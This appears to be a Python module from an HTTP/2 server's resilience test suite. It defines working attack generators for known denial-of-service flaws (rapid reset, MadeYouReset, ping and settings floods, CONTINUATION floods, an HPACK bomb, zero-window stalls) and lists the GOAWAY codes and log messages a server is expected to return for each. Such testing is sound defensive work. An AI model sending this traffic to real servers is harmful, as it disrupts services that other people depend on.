"""Attacks on HTTP/2 connections, each a generator that sends some and yields, until it is done or thrown out.

What a caller does between the steps (read or not, ask for something elsewhere) is its own affair; ``amount`` scales.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from wire_clients import h2_raw as raw
from wire_clients.h2_raw import H2Raw, frame, literal, rst, window_update

Attack = Callable[[H2Raw, int], Iterator[None]]


def _repeat(peer: H2Raw, amount: int, make: Callable[[int], bytes], batch: int = 100) -> Iterator[None]:
    for start in range(0, amount, batch):
        if peer.over:
            return
        peer.send(b"".join(make(number) for number in range(start, min(start + batch, amount))))
        yield


# ------------------------------------------------------------------------------------------------------------- resets


def rapid_reset(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2023-44487: requests that are taken back at once."""
    return _repeat(peer, amount, lambda _: peer.open() + rst(peer.last), 20)


def late_reset(peer: H2Raw, amount: int) -> Iterator[None]:
    """The same in two flights, so that the applications have begun."""
    for _ in range(amount // 50):
        if peer.over:
            return
        first = peer.next_stream
        peer.send(b"".join(peer.open(head=peer.head(path=b"/hold")) for _ in range(50)))
        peer.sync()
        yield
        peer.send(b"".join(rst(stream) for stream in range(first, peer.next_stream, 2)))
        yield


def late_provoked(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2025-8671 (MadeYouReset) in two flights: the server is made to reset what runs."""
    for _ in range(amount // 50):
        if peer.over:
            return
        first = peer.next_stream
        peer.send(b"".join(peer.open(head=peer.head(path=b"/hold")) for _ in range(50)))
        peer.sync()
        yield
        peer.send(b"".join(window_update(stream, 2**31 - 1) for stream in range(first, peer.next_stream, 2)))
        yield


def zero_increments(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2025-8671 (MadeYouReset): the server is made to reset what it would answer."""
    return _repeat(peer, amount, lambda _: peer.open() + window_update(peer.last, 0), 20)


def window_overflows(peer: H2Raw, amount: int) -> Iterator[None]:
    return _repeat(peer, amount, lambda _: peer.open() + window_update(peer.last, 2**31 - 1), 20)


def wrong_lengths(peer: H2Raw, amount: int) -> Iterator[None]:
    """More body than was declared."""
    head = peer.head(b"POST", extra=literal(b"content-length", b"1"))
    return _repeat(peer, amount, lambda _: peer.open(end=False, head=head) + frame(raw.DATA, 1, peer.last, b"xx"), 20)


def malformed_heads(peer: H2Raw, amount: int) -> Iterator[None]:
    head = peer.head(extra=literal(b"Upper", b"case"))
    return _repeat(peer, amount, lambda _: peer.open(head=head), 20)


def bad_requests(peer: H2Raw, amount: int) -> Iterator[None]:
    """Heads that get a status and no application."""
    head = peer.head(path=b"no-slash")
    return _repeat(peer, amount, lambda _: peer.open(head=head), 20)


def priorities_of_itself(peer: H2Raw, amount: int) -> Iterator[None]:
    """RFC 7540 section 5.3.1: a stream error there."""

    def one(_: int) -> bytes:
        return peer.open() + frame(raw.PRIORITY, 0, peer.last, struct.pack("!IB", peer.last, 1))

    return _repeat(peer, amount, one, 20)


# ------------------------------------------------------------------------------------------------------------- floods


def pings(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2019-9512."""
    return _repeat(peer, amount, lambda number: frame(raw.PING, 0, 0, struct.pack("!Q", number)))


def settings_frames(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2019-9515."""
    return _repeat(peer, amount, lambda _: raw.settings(initial_window_size=65_535))


def settings_acks(peer: H2Raw, amount: int) -> Iterator[None]:
    return _repeat(peer, amount, lambda _: frame(raw.SETTINGS, raw.ACK))


def empty_data(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2019-9518."""
    peer.send(peer.open(end=False, head=peer.head(b"POST", b"/hold")))
    return _repeat(peer, amount, lambda _: frame(raw.DATA, 0, peer.last))


def padded_data(peer: H2Raw, amount: int) -> Iterator[None]:
    """Nothing but padding: it takes windows and brings nothing."""
    peer.send(peer.open(end=False, head=peer.head(b"POST", b"/hold")))
    return _repeat(peer, amount, lambda _: frame(raw.DATA, raw.PADDED, peer.last, b"\x01\x00"))


def window_updates(peer: H2Raw, amount: int) -> Iterator[None]:
    return _repeat(peer, amount, lambda _: window_update(0, 1))


def window_updates_of_a_stream(peer: H2Raw, amount: int) -> Iterator[None]:
    peer.send(peer.open(end=False, head=peer.head(b"POST", b"/hold")))
    return _repeat(peer, amount, lambda _: window_update(peer.last, 1))


def priorities(peer: H2Raw, amount: int) -> Iterator[None]:
    """Of streams that were never opened: each could become an entry of a tree."""
    make = lambda number: frame(raw.PRIORITY, 0, 2 * number + 1, struct.pack("!IB", 0, 15))  # noqa: E731
    return _repeat(peer, amount, make)


def priority_updates(peer: H2Raw, amount: int) -> Iterator[None]:
    peer.send(peer.open(end=False, head=peer.head(b"POST", b"/hold")))
    make = lambda _: frame(raw.PRIORITY_UPDATE, 0, 0, struct.pack("!I", peer.last) + b"u=1")  # noqa: E731
    return _repeat(peer, amount, make)


def priority_updates_of_idle_streams(peer: H2Raw, amount: int) -> Iterator[None]:
    make = lambda number: frame(raw.PRIORITY_UPDATE, 0, 0, struct.pack("!I", 2 * number + 1) + b"u=1")  # noqa: E731
    return _repeat(peer, amount, make)


def unknown_frames(peer: H2Raw, amount: int) -> Iterator[None]:
    return _repeat(peer, amount, lambda _: frame(0xF0, 0, 0))


def resets_of_closed_streams(peer: H2Raw, amount: int) -> Iterator[None]:
    peer.send(peer.open())
    return _repeat(peer, amount, lambda _: rst(1))


def goaways(peer: H2Raw, amount: int) -> Iterator[None]:
    return _repeat(peer, amount, lambda _: frame(raw.GOAWAY, 0, 0, bytes(8)))


def continuations(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2024-27316 and its kin: a head that does not end."""
    peer.send(frame(raw.HEADERS, raw.END_STREAM, 1, peer.head()))
    return _repeat(peer, amount, lambda _: frame(raw.CONTINUATION, 0, 1, literal(b"x", b"y" * 1000)), 10)


def empty_continuations(peer: H2Raw, amount: int) -> Iterator[None]:
    peer.send(frame(raw.HEADERS, raw.END_STREAM, 1, peer.head()))
    return _repeat(peer, amount, lambda _: frame(raw.CONTINUATION, 0, 1))


# ------------------------------------------------------------------------------------------------------------ expansion


def hpack_bomb(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2016-6581: an entry of 4 KiB, then thousands of references to it, one byte each."""
    peer.send(peer.open(head=peer.head(extra=literal(b"x", b"y" * 4000, indexed=True))))
    return _repeat(peer, max(amount // 1000, 5), lambda _: peer.open(head=peer.head(extra=b"\xbe" * 12_000)), 1)


def cookie_crumbs(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2025-53020 and its kin: each crumb is a field, however small."""
    crumbs = literal(b"cookie", b"a=1", indexed=True) + b"\xbe" * 10_000
    return _repeat(peer, max(amount // 1000, 5), lambda _: peer.open(head=peer.head(extra=crumbs)), 1)


def empty_fields(peer: H2Raw, amount: int) -> Iterator[None]:
    many = literal(b"x", b"", indexed=True) + b"\xbe" * 10_000
    return _repeat(peer, max(amount // 1000, 5), lambda _: peer.open(head=peer.head(extra=many)), 1)


def table_thrash(peer: H2Raw, amount: int) -> Iterator[None]:
    """Fields that each push others out of the table, and sizes that empty it."""

    def one(number: int) -> bytes:
        block = b"\x20\x3f\xe1\x1f" + peer.head(  # the size to 0, then to 4096
            extra=b"".join(literal(b"x-%d" % n, b"%d" % number * 50, indexed=True) for n in range(40))
        )
        return peer.open(head=block)

    return _repeat(peer, amount // 10, one, 5)


def encoder_thrash(peer: H2Raw, amount: int) -> Iterator[None]:
    """The server's own table, from nothing to everything and back."""
    make = lambda n: raw.settings(header_table_size=0 if n % 2 else 65_536)  # noqa: E731
    return _repeat(peer, amount, make, 50)


# --------------------------------------------------------------------------------------------------------------- stalls


def zero_windows(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2019-9517: large answers, and no room for them."""
    peer.send(raw.settings(initial_window_size=0))
    peer.send(b"".join(peer.open(head=peer.head(path=b"/large")) for _ in range(100)))
    for _ in range(20):
        yield


def tiny_windows(peer: H2Raw, amount: int) -> Iterator[None]:
    """CVE-2019-9511: one byte at a time."""
    peer.send(raw.settings(initial_window_size=1))
    streams = 50
    peer.send(b"".join(peer.open(head=peer.head(path=b"/large")) for _ in range(streams)))
    make = lambda number: window_update(2 * (number % streams) + 1, 1)  # noqa: E731
    yield from _repeat(peer, amount, make)


def unread_bodies(peer: H2Raw, amount: int) -> Iterator[None]:
    """Bodies for an application that does not read: as much as the windows let in."""
    peer.send(b"".join(peer.open(end=False, head=peer.head(b"POST", b"/hold")) for _ in range(50)))
    sent = 0
    while sent < 60 and not peer.over:
        stream = 2 * (sent % 50) + 1
        peer.send(frame(raw.DATA, 0, stream, bytes(16_384)))
        sent += 1
        yield


def large_heads(peer: H2Raw, amount: int) -> Iterator[None]:
    """A hundred requests at once, each with a head almost as large as may be, and nothing in it twice."""
    for request in range(100):
        if peer.over:
            return
        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
        fields = (literal(b"x-%d" % number, b"%d-%d-%d" % (id(peer), request, number) * 20) for number in range(100))
        block = peer.head(path=b"/hold", extra=b"".join(fields))
        parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        data = frame(raw.HEADERS, raw.END_STREAM, stream, parts[0])
        for index, part in enumerate(parts[1:], 2):
            data += frame(raw.CONTINUATION, raw.END_HEADERS if index == len(parts) else 0, stream, part)
        peer.send(data)
        yield


#: What must be thrown out: the GOAWAY's code, and what the log says. Where the library ends the connection at the first
#: such frame, no budget is needed.
THROWN_OUT: dict[Attack, tuple[int, str]] = {
    rapid_reset: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    late_provoked: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    late_reset: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    zero_increments: (raw.PROTOCOL_ERROR, "non-compliant data"),
    window_overflows: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    wrong_lengths: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    malformed_heads: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    bad_requests: (raw.ENHANCE_YOUR_CALM, "max_resets"),
    pings: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    settings_frames: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    settings_acks: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    empty_data: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    padded_data: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    window_updates: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    window_updates_of_a_stream: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    priorities: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    priority_updates: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    unknown_frames: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    resets_of_closed_streams: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    encoder_thrash: (raw.ENHANCE_YOUR_CALM, "max_control_frames"),
    continuations: (raw.PROTOCOL_ERROR, "continuation frames"),
    empty_continuations: (raw.PROTOCOL_ERROR, "continuation frames"),
    hpack_bomb: (raw.ENHANCE_YOUR_CALM, "max_head_bytes"),
}
#: What may be answered, so long as it costs no more than its budget.
BORNE: tuple[Attack, ...] = (
    goaways,
    priorities_of_itself,
    priority_updates_of_idle_streams,
    cookie_crumbs,
    empty_fields,
    table_thrash,
    zero_windows,
    tiny_windows,
    unread_bodies,
    large_heads,
)
